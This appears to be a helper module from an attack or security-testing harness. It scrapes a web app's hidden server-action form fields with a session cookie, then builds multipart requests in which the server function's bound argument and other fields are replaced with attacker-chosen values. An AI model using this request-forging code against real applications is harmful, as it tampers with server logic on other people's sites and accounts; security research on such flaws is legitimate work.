import { hiddenFields } from '../engine/capture'
import type { Client } from '../engine/client'

/**
 * The hidden fields by which a form without JavaScript names the function it calls, as its owner sees them. The hat that
 * is bound to it stands in a field of its own, in the clear; here it is left out, for the attacker writes it.
 */
export async function learnForms(client: Client, cookie: string, wanted: Record<string, { page: string; holds: string }>): Promise<Record<string, Record<string, string>>> {
  const pages = new Map<string, string>()
  const found: Record<string, Record<string, string>> = {}
  for (const [name, { page, holds }] of Object.entries(wanted)) {
    if (!pages.has(page)) pages.set(page, (await client.send({ method: 'GET', url: page, headers: { cookie } })).body.toString('utf8'))
    const fields = hiddenFields(pages.get(page) ?? '', holds) ?? {}
    const [key, value] = Object.entries(fields).find(([field]) => /^\$ACTION_\d+:0$/.test(field)) ?? []
    if (key === undefined || value === undefined) throw new Error(`${page} holds no form with ${holds}`)
    found[name] = { [key.replace(/:0$/, '').replace('$ACTION_', '$ACTION_REF_')]: '', [key]: value, $ACTION_KEY: fields['$ACTION_KEY'] ?? '' }
  }
  return found
}

/** A form's body: the owner's function, with the hat and the fields that the attacker chooses. */
export function formBody(form: Record<string, string>, hat: string, fields: Record<string, string>) {
  const bound = Object.keys(form).find((field) => field.endsWith(':0'))?.replace(/:0$/, ':1') ?? ''
  return { type: 'multipart' as const, value: { ...form, [bound]: `[${hat},{"reply":"$undefined"}]`, ...fields } }
}
